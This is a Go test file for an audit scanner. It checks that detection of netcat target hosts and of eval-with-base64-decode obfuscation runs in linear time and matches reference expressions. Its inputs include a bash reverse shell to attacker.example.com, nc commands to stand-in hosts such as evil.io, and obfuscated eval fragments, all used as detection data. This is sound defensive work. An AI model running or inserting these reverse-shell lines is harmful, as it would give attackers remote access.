package audit

import (
	"slices"
	"strings"
	"testing"
)

// readsLinearly fails t when what read counts on a text of the shape
// unit repeated grows faster than the text does: at most twice a
// text's bytes, at 16 KiB and at four times that, and at most twice
// four times as much at the second (where once a unit is 16 times).
func readsLinearly(t *testing.T, head, unit, tail string, read func(text string) int) {
	t.Helper()
	var reads [2]int
	for k, size := range []int{16 << 10, 64 << 10} {
		text := head + strings.Repeat(unit, size/len(unit)) + tail
		if reads[k] = read(text); reads[k] > 2*len(text) {
			t.Errorf("%q repeated to %d bytes: read %d bytes, want at most %d", unit, len(text), reads[k], 2*len(text))
		}
	}
	if reads[1] > 8*reads[0]+len(head)+len(tail)+len(unit) {
		t.Errorf("%q repeated: read %d bytes of 16 KiB and %d of 64 KiB, more than eight times as many", unit, reads[0], reads[1])
	}
}

// TestNcHostsReadOnce: an nc command looks at the rest of its stretch
// of a line without `\n|;` for a host; the nc commands after one that
// found none in a stretch do not look at it again (a line of "nc "
// repeated, in which each read the rest, took 13 s at 64 KiB), and the
// hosts found, in order, are the expression's.
func TestNcHostsReadOnce(t *testing.T) {
	const head = "bash -i >& /dev/tcp/attacker.example.com/4444 0>&1 "
	for _, unit := range []string{"nc ", "nc -e ", "ncat x ", "nc a.b\t", "nc 1.2.3.4 x;"} {
		for _, tail := range []string{"", "nc evil.io 4444", "\nnc 10.0.0.1 80 | nc x.io 1"} {
			readsLinearly(t, head, unit, tail, func(text string) int {
				var got, want []string
				read := targetHostsRead(text, func(h string) bool { got = append(got, h); return true })
				for _, m := range targetHost.FindAllStringSubmatch(text, -1) {
					for _, h := range m[1:] {
						if h != "" {
							want = append(want, h)
						}
					}
				}
				if !slices.Equal(got, want) {
					t.Errorf("the hosts of %q repeated then %q = %q, want %q", unit, tail, got, want)
				}
				return read
			})
		}
	}
	// The early stop: what yield refuses is the last host it is given.
	text := "nc a.io 1 x nc nc nc b.io 2; nc c.io 3"
	var got []string
	targetHosts(text, func(h string) bool { got = append(got, h); return h != "b.io" })
	if want := []string{"a.io", "b.io"}; !slices.Equal(got, want) {
		t.Errorf("the hosts of %q until b.io = %q, want %q", text, got, want)
	}
}

// TestEvalDecodeReadOnce: a command substitution given to eval, exec or
// a shell's -c is read up to its ')' or its line's end for a base64
// decode once, not once for each substitution that opens in it (a line
// of "eval $(base64 " repeated, in which each read the rest, took 40 s
// at 8 MiB), and the answer is the expression's.
func TestEvalDecodeReadOnce(t *testing.T) {
	e := obfuscatedExec[2]
	if !strings.Contains(e.String(), `\$\(`) {
		t.Fatalf("obfuscatedExec[2] is %s, not the expression of a command substitution", e)
	}
	for _, unit := range []string{"eval $(base64 ", "eval $(", `bash -c "$(`, "sh -c $(", "exec $(x)b "} {
		for _, tail := range []string{"", "base64 -d", ")eval $(base64 --decode", "\nsh -c '$(base64 -d"} {
			readsLinearly(t, "", unit, tail, func(text string) int {
				got, read := matchEvalDecodeRead(text)
				if want := e.MatchString(text); got != want || matchEvalDecode(text) != want {
					t.Errorf("matchEvalDecode of %q repeated then %q = %v, want %v", unit, tail, got, want)
				}
				return read
			})
		}
	}
}
